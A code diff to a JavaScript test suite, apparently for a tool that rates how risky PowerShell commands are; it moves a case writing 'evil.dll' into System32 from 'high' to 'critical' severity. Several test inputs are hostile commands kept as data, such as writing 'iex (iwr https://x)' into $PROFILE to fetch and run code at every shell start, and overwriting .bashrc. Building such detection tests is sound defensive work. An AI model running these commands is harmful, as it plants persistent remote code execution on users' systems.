@@ -21,7 +21,7 @@ describe(".NET file writes in PowerShell", () => {
     ['[IO.File]::WriteAllText($PROFILE, "iex (iwr https://x)")', 'Set-Content $PROFILE "iex (iwr https://x)"', "high"],
     ["[System.IO.File]::WriteAllText($PROFILE, 'x')", "Set-Content $PROFILE 'x'", "high"],
     ["[IO.File]::WriteAllLines(\"$HOME\\.bashrc\", $lines)", "Set-Content \"$HOME\\.bashrc\" $lines", "high"],
-    ["[System.IO.File]::WriteAllBytes('C:\\Windows\\System32\\evil.dll', $bytes)", "Set-Content 'C:\\Windows\\System32\\evil.dll' $bytes", "high"],
+    ["[System.IO.File]::WriteAllBytes('C:\\Windows\\System32\\evil.dll', $bytes)", "Set-Content 'C:\\Windows\\System32\\evil.dll' $bytes", "critical"],
     ["[IO.File]::AppendAllText($PROFILE, 'iex $x')", "Add-Content $PROFILE 'iex $x'", "high"],
     ["[System.IO.File]::AppendAllLinesAsync($PROFILE, $lines)", "Add-Content $PROFILE $lines", "high"],
     ["[IO.File]::CreateText($PROFILE)", "Set-Content $PROFILE", "high"],
